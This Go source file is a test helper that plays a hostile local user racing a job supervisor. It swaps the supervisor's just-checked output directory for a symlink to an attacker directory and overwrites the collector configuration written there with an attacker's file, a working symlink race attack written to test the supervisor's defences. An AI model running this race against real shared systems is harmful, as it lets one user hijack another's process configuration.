// Command dirswap-standin plays another local user who can write a job's
// dir and races the job's supervisor for its output dir (tests/plugin
// TestHostileOutputDirSwap):
//
//	dirswap-standin JOBDIR ATTACKERDIR EVILCONFIG STOPFILE
//
// Until STOPFILE exists it loops: a real JOBDIR/otel (the supervisor's,
// just made and checked) is renamed away to JOBDIR/.stolen-<n> and a
// symbolic link to ATTACKERDIR put in its place; a link that has stood
// for linkHold is removed again, so that the next supervisor makes a real
// dir to be swapped after its check. A collector.yaml that someone else
// wrote into ATTACKERDIR (the supervisor through the link) is replaced by
// EVILCONFIG, the attacker's configuration, before the collector reads it.
// At the end it prints "swaps=N links=N planted=N".
package main

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"syscall"
	"time"
)

// linkHold is how long a link stands before the loop removes it.
const linkHold = 3 * time.Millisecond

func main() {
	if len(os.Args) != 5 {
		fmt.Fprintln(os.Stderr, "usage: dirswap-standin JOBDIR ATTACKERDIR EVILCONFIG STOPFILE")
		os.Exit(2)
	}
	job, attacker, evilPath, stop := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	evil, err := os.ReadFile(evilPath)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	otel := filepath.Join(job, "otel")
	me := uint32(os.Getuid())
	var swaps, links, planted int
	var linkedAt time.Time
	link := func() {
		tmp := filepath.Join(job, ".lnk-"+strconv.Itoa(links))
		if os.Symlink(attacker, tmp) == nil {
			// rename(2) puts the link in place only if nothing is there:
			// renameat2 RENAME_NOREPLACE is not needed, a real dir made
			// meanwhile makes the rename fail (EISDIR/ENOTEMPTY).
			if os.Rename(tmp, otel) == nil {
				links++
				linkedAt = time.Now()
			} else {
				os.Remove(tmp)
			}
		}
	}
	for i := 0; ; i++ {
		if i%64 == 0 {
			if _, err := os.Stat(stop); err == nil {
				break
			}
		}
		fi, err := os.Lstat(otel)
		switch {
		case errors.Is(err, fs.ErrNotExist):
			if time.Since(linkedAt) > 4*linkHold {
				link()
			}
		case err != nil:
		case fi.Mode()&fs.ModeSymlink != 0:
			if time.Since(linkedAt) > linkHold {
				os.Remove(otel)
			}
		case fi.IsDir():
			if os.Rename(otel, filepath.Join(job, ".stolen-"+strconv.Itoa(swaps))) == nil {
				swaps++
				link()
			}
		}
		cfg := filepath.Join(attacker, "collector.yaml")
		if st, err := os.Lstat(cfg); err == nil && st.Sys().(*syscall.Stat_t).Uid != me {
			tmp := filepath.Join(attacker, ".evil")
			if os.WriteFile(tmp, evil, 0o644) == nil && os.Rename(tmp, cfg) == nil {
				planted++
			}
		}
		if i%8 == 0 {
			time.Sleep(20 * time.Microsecond)
		}
	}
	fmt.Printf("swaps=%d links=%d planted=%d\n", swaps, links, planted)
}
